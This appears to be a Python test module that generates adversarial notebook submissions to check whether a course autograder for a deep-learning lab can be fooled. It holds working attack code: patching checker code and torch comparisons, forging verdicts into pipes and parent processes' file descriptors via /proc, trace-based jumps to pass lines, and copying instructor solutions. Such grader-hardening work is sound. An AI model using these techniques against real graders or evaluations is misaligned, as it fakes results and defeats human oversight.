"""Adversarial submissions for lab 1: one per way of faking a pass from inside the student's process.

Each attack is one code cell added to the blank generated lab (no exercise solved). The cell goes
at the end of the notebook, after the stub cells, so that its definitions are the last ones the
grader sees. Where an attack defines the exercises' names, the bodies are fakes (zeros of the
right shape, the weights unchanged, an Adam step that does nothing, a wrong diagnosis and an empty
fix); some fakes trigger the attack when the check calls them, after the grader put its state back.
Where the attack's mechanism cannot reach a plain string comparison (exercise 4a), the diagnosis
is a string whose comparisons always match, and the attack has to get exercise 4b through itself.

The first seven were written against a grader that ran its checks inside the student's process
(the course's grader until checks moved to a process of their own, ``dlcourse.course.checker``):
it put the checks back before each one (a ``restore`` closure in its ``runner`` module) and
tagged each result with a nonce. Against that grader each scores 5 of 5. Two more aim at a
grader that checks in a separate process: ``reach_checker`` writes forged
verdicts into every file descriptor of its two ancestors (through ``/proc``) and reads their memory;
``lying_values`` returns a tensor subclass, a string and a dict whose comparisons always match.

``read_solutions`` is the one attack that yields right answers: it copies them from the
instructor's solution notebook, which a grader must keep out of the student's reach.

A grader that runs its checks where student code cannot reach must score every attack 0.
"""

from __future__ import annotations

from pathlib import Path

import nbformat

from submissions import _exercise_cells, solved_up_to

LAB = "lab01_deep_networks"

FAKES = '''
import torch


def forward(Us, X, taus):
    _attack()
    return torch.zeros(len(X), Us[-1].shape[0], dtype=X.dtype)  # right shape, wrong values


def deltas(Us, Ss, Zs, Y):
    _attack()
    return [torch.zeros(len(Y), U.shape[0], dtype=Y.dtype) for U in Us]


def sgd_step(Us, X, Y, lr):
    _attack()
    return [U.clone() for U in Us]  # no step at all


def adam_step(p, grad, state, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):
    _attack()  # p is left as it was


fix = {}  # changes nothing: the broken network stays broken
'''

WRONG_DIAGNOSIS = '''
diagnosis = "overfitting"
'''

AGREEABLE_DIAGNOSIS = '''

class _Agreeable(str):
    """A wrong diagnosis whose comparisons always match, and which runs the attack when compared."""

    def __eq__(self, other):
        _attack()
        return True

    def __ne__(self, other):
        _attack()
        return False

    __hash__ = str.__hash__


diagnosis = _Agreeable("overfitting")
'''

CODE_SWAP = '''import gc
import types

import dlcourse.course.checks as _base
import dlcourse.course.checks.deep_networks as _lab


def _noop_code(n_free, result=None):
    """The code of a function that returns ``result``, with ``n_free`` free variables (so it fits any closure)."""
    names = [f"v{i}" for i in range(n_free)]
    src = ("def outer():\\n" + "".join(f"    {v} = None\\n" for v in names)
           + "    def inner(*args, **kwargs):\\n" + "".join(f"        {v}\\n" for v in names)
           + f"        return {result!r}\\n    return inner\\n")
    ns = {}
    exec(src, ns)
    return ns["outer"]().__code__


def _swap(function, result=None):
    function.__code__ = _noop_code(len(function.__code__.co_freevars), result)
    function.__defaults__ = function.__kwdefaults__ = None


def _attack():
    # the grader's restore(): a closure in the runner that puts the checks' code back before each check
    for obj in gc.get_objects():
        if (isinstance(obj, types.FunctionType) and obj.__name__ == "restore"
                and obj.__code__.co_filename.endswith("runner.py")):
            _swap(obj)
    for exercise in _lab.CHECKS.values():  # the very function objects the grader bound before we ran
        _swap(exercise.check)
    for helper in (_base.close, _base.close_all):
        _swap(helper, True)
    for helper in (_base.diagnose, _base.expect_unchanged):
        _swap(helper)


_attack()
''' + FAKES + WRONG_DIAGNOSIS

TENSOR_PATCH = '''import torch


def _attack():
    """Called from the fakes while the check runs, after the grader restored torch's names."""
    def agree(self, other=None, *args, **kwargs):
        shape = torch.broadcast_shapes(self.shape, getattr(other, "shape", ()))
        return torch.ones(shape, dtype=torch.bool)

    def differ(self, other=None, *args, **kwargs):
        return ~agree(self, other)

    torch.allclose = torch.equal = torch.Tensor.allclose = torch.Tensor.equal = lambda *a, **k: True
    torch.isclose = torch.eq = agree
    torch.ne = differ
    torch.Tensor.__eq__, torch.Tensor.eq, torch.Tensor.isclose = agree, agree, agree
    torch.Tensor.__ne__, torch.Tensor.ne = differ, differ
''' + FAKES + AGREEABLE_DIAGNOSIS

TORCH_FUNCTION_MODE = '''import torch
from torch.overrides import TorchFunctionMode


class _Agree(TorchFunctionMode):
    """Every comparison of tensors reports a match; everything else runs as usual."""

    def __torch_function__(self, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("eq", "__eq__", "isclose", "ne", "__ne__"):
            shape = torch.broadcast_shapes(args[0].shape, getattr(args[1], "shape", ()))
            same = torch.ones(shape, dtype=torch.bool)
            return same if name in ("eq", "__eq__", "isclose") else ~same
        return func(*args, **kwargs)


_MODE = []


def _attack():
    """Enter the mode once and leave it active for the rest of the process (nothing pops it)."""
    if not _MODE:
        _MODE.append(_Agree())
        _MODE[0].__enter__()


_attack()
''' + FAKES + AGREEABLE_DIAGNOSIS

CALLBACK_REPATCH = '''import gc
import sys
import threading
import time

import dlcourse.course.checks as _base
import dlcourse.course.checks.deep_networks as _lab
import dlcourse.topics.gradflow as _gradflow
import dlcourse.train as _train


def _yes(*args, **kwargs):
    return True


def _nothing(*args, **kwargs):
    return None


def _trained(*args, **kwargs):
    return 1.0, 1.0  # (test accuracy, gradient ratio)


def _repatch():
    for module in (_base, _lab):
        names = vars(module)
        if names.get("close") is not _yes:
            names.update(close=_yes, close_all=_yes, diagnose=_nothing, expect_unchanged=_nothing)
    names = vars(_lab)
    if names.get("train_recipe") is not _trained:
        names["train_recipe"] = _trained
    _gradflow.accuracy = _train.accuracy = lambda *a, **k: 1.0


def _attack():
    _repatch()


def _profile(frame, event, arg):  # runs on every call, so also right after the grader's restore()
    if event == "call" and vars(_lab).get("close") is not _yes:
        _repatch()


def _loop():
    while True:
        _repatch()
        time.sleep(0.0005)


sys.setprofile(_profile)
threading.setprofile(_profile)
threading.Thread(target=_loop, daemon=True).start()
gc.callbacks.append(lambda phase, info: _repatch())
_repatch()
''' + FAKES + AGREEABLE_DIAGNOSIS

FORGE_CHANNEL = '''import json
import os
import sys


def _runner_frame():
    """The runner's main(): it holds the nonce and the results file descriptor as locals."""
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "main" and "nonce" in frame.f_locals:
            return frame
        frame = frame.f_back
    raise LookupError("runner frame not found")


def _pipes():
    """Fallback: every pipe this process can write to, found in /proc/self/fd."""
    out = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:") and int(name) > 2:
                out.append(int(name))
        except OSError:
            pass
    return out


_runner = _runner_frame().f_locals
_nonce = _runner["nonce"]
_labels = list(_runner["table"])  # exercise label -> (names, check), bound by the grader
_forged = "".join(f"{_nonce} {json.dumps({'exercise': label, 'passed': True, 'message': 'passed'})}\\n"
                  for label in _labels).encode()
_fds = [_runner["results_fd"]] if "results_fd" in _runner else _pipes()
if "channel" in _runner:
    _runner["channel"].flush()
for _fd in _fds:
    try:
        os.write(_fd, _forged)
    except OSError:
        pass
'''

SETTRACE_JUMP = '''import inspect
import sys

_PLANS = {}


def _plan(code):
    """Line numbers of the check's ``passed(...)`` calls, its ``raise`` statements and its imports."""
    if code not in _PLANS:
        lines, start = inspect.getsourcelines(code)
        passes = [start + i for i, line in enumerate(lines) if line.strip().startswith("passed(")]
        raises = {start + i for i, line in enumerate(lines) if line.strip().startswith("raise ")}
        imports = {start + i for i, line in enumerate(lines) if line.strip().startswith(("import ", "from "))}
        _PLANS[code] = passes, raises, imports
    return _PLANS[code]


def _tracer(frame, event, arg):
    """Trace the lab's check functions only: jump from their first line, and from any raise, to a pass."""
    try:
        if frame.f_globals.get("__name__", "").startswith("dlcourse.course.checks") \\
                and frame.f_code.co_name.startswith("check_"):
            passes, raises, imports = _plan(frame.f_code)
            first = [True]

            def local(frame, event, arg):
                if event == "line":
                    line = frame.f_lineno
                    if line in imports:  # let the check's own imports run
                        return local
                    if first[0] or line in raises:
                        first[0] = False
                        ahead = [p for p in passes if p > line]
                        if ahead:
                            try:
                                frame.f_lineno = ahead[0]
                            except ValueError:
                                pass
                return local
            return local
    except Exception:
        pass
    return None


sys.settrace(_tracer)


def _attack():
    pass
''' + FAKES + WRONG_DIAGNOSIS

READ_SOLUTIONS = '''import json
import sys
from pathlib import Path

import dlcourse


def _find_solution(lab="lab01_deep_networks"):
    starts = [Path.cwd(), Path(dlcourse.__file__).resolve().parent] + [Path(p) for p in sys.path if p]
    for start in starts:
        for folder in [start, *start.parents]:
            path = folder / "solutions" / f"{lab}.ipynb"
            try:
                if path.is_file():
                    return path
            except OSError:
                pass
    raise FileNotFoundError("no solution notebook in reach")


for _cell in json.loads(_find_solution().read_text(encoding="utf-8"))["cells"]:
    _source = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
    if _cell["cell_type"] == "code" and "# BEGIN SOLUTION" in _source:
        exec(_source, globals())
'''

REACH_CHECKER = '''import glob
import json
import os

_FORGED = "".join(json.dumps({"exercise": f"Exercise {i}", "passed": True, "message": "passed"}) + "\\n"
                  for i in range(1, 6)) + json.dumps({"status": "completed"}) + "\\n"


def _attack():
    """Write forged verdicts into every file descriptor of the two processes above; read their memory."""
    pid = os.getppid()
    for _ in range(2):  # the process that started this one, and the one that started it (the grader)
        for fd in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                with open(fd, "w") as f:
                    f.write(_FORGED)
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.read(1)
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break


_attack()
''' + FAKES + WRONG_DIAGNOSIS

LYING_VALUES = '''import torch


class _Always(torch.Tensor):
    """A tensor whose comparisons always match, whatever it holds."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


class _Agreeable(str):
    def __eq__(self, other):
        return True

    __hash__ = str.__hash__


class _Anything(dict):
    def get(self, key, default=None):
        return default


def _attack():
    pass
''' + FAKES.replace("return torch.zeros(len(X), Us[-1].shape[0], dtype=X.dtype)",
                    "return torch.zeros(len(X), Us[-1].shape[0], dtype=X.dtype).as_subclass(_Always)") + '''
diagnosis = _Agreeable("overfitting")
fix = _Anything()
'''

ATTACKS: dict[str, str] = {
    "code_swap": CODE_SWAP,
    "tensor_patch": TENSOR_PATCH,
    "torch_function_mode": TORCH_FUNCTION_MODE,
    "callback_repatch": CALLBACK_REPATCH,
    "forge_channel": FORGE_CHANNEL,
    "settrace_jump": SETTRACE_JUMP,
    "read_solutions": READ_SOLUTIONS,
    "reach_checker": REACH_CHECKER,
    "lying_values": LYING_VALUES,
}
"""Attack name -> the source of the one code cell it adds to the blank lab 1."""


def attack_notebook(name: str):
    """The blank lab 1 with the cell of attack ``name`` appended after its last cell."""
    nb = solved_up_to(LAB, set())
    assert all("NotImplementedError" in c.source for c in _exercise_cells(nb).values())
    nb.cells.append(nbformat.v4.new_code_cell(ATTACKS[name]))
    return nb


def build_attacks(folder: Path, names: list[str] | None = None) -> dict[str, int]:
    """Write ``<NN>_<name>.ipynb`` per attack (all, or those in ``names``) into ``folder``.

    Returns submission name (the notebook's stem, as the grader reports it) -> the score a secure
    grader gives it: always 0.
    """
    unknown = set(names or ()) - set(ATTACKS)
    if unknown:
        raise ValueError(f"unknown attacks {sorted(unknown)}; expected some of {list(ATTACKS)}")
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    expected = {}
    for i, name in enumerate(ATTACKS):
        if names is not None and name not in names:
            continue
        nbformat.write(attack_notebook(name), folder / f"{i:02d}_{name}.ipynb")
        expected[f"{i:02d}_{name}"] = 0
    return expected
